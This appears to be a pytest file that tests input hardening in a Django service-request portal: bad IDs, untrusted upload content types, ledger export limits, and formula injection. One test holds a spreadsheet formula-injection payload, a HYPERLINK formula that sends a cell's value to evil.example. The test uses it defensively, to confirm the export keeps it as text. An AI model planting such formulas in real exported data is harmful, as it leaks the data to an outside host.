"""Input that used to make a server error is now a clear answer (part of the hardening)."""

import io

import openpyxl
import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse

from portal.models import Notification
from services.loop.models import Attachment

from ..samples import PDF

pytestmark = pytest.mark.django_db


@pytest.mark.parametrize("step", ["dispatch", "sign-for", "rate", "reopen", "acknowledge"])
def test_a_step_on_a_non_number_request_id_is_a_404(client, dispatcher, step):
    client.force_login(dispatcher)
    for bad in ("null", "1e400", "²"):
        response = client.post(
            f"/api/v1/requests/{bad}/{step}/", {}, content_type="application/json"
        )
        assert response.status_code == 404, (bad, response.status_code)
        assert response.json()["code"] == "not_found"


def test_marking_notifications_read_with_a_bad_id_is_a_message(client, user_a):
    Notification.objects.create(recipient=user_a, kind="message", title="通知", body="")
    client.force_login(user_a)
    response = client.post(reverse("notifications_mark_read"), {"id": ["²"]}, follow=True)
    assert response.status_code == 200
    assert "请从通知列表中选择" in response.content.decode()
    assert Notification.objects.unread().count() == 1


def test_an_uploaders_content_type_is_not_trusted(client, user_a, category, settings, tmp_path):
    settings.MEDIA_ROOT = tmp_path
    client.force_login(user_a)
    upload = SimpleUploadedFile("说明.pdf", PDF, content_type="text/html;" + "x" * 200)
    response = client.post(reverse("services:request_new"), {
        "category": category.pk, "title": "附件类型", "description": "说明", "files": upload,
    })  # fmt: skip
    assert response.status_code == 302
    assert Attachment.objects.get().content_type == "application/pdf"


def test_typed_formulas_leave_the_ledger_as_text(client, submit, dispatcher):
    formula = '=HYPERLINK("http://evil.example/?"&B2,"点我")'
    submit(title=formula)
    client.force_login(dispatcher)
    response = client.get(reverse("services:staff_ledger"))
    sheet = openpyxl.load_workbook(io.BytesIO(response.content)).active
    cell = next(row[3] for row in sheet.iter_rows(min_row=2))
    assert (cell.value, cell.data_type) == (formula, "s")


def test_bulk_dispatch_with_bad_ids_is_a_message_and_dispatches_nothing(client, submit, dispatcher):
    item = submit()
    client.force_login(dispatcher)
    for ids in (["²"], ["null"], [str(item.pk), "1e400"]):
        response = client.post(reverse("services:staff_bulk_dispatch"), {"ids": ids}, follow=True)
        assert response.status_code == 200
        assert 'class="alert alert-danger' in response.content.decode()
    item.refresh_from_db()
    assert item.state == "submitted"


def test_a_ledger_too_long_to_write_while_waiting_asks_for_narrower_filters(
    client, submit, dispatcher, settings
):
    """A ledger is written while the browser waits: past LEDGER_MAX_ROWS the staff member is
    sent back to the list, filters kept, with a message; a narrower filter then exports."""
    settings.LEDGER_MAX_ROWS = 2
    for n in range(3):
        submit(title=f"台账 {n}")
    client.force_login(dispatcher)
    url = reverse("services:staff_ledger")
    response = client.get(url + "?state=submitted", follow=True)
    assert response.redirect_chain[-1][0] == reverse("services:staff_requests") + "?state=submitted"
    page = response.content.decode()
    assert "台账超过 2 件诉求" in page and "请缩短时间段或增加筛选条件" in page
    response = client.get(url + "?q=台账 1")
    sheet = openpyxl.load_workbook(io.BytesIO(response.content)).active
    assert [row[3] for row in sheet.iter_rows(min_row=2, values_only=True)] == ["台账 1"]
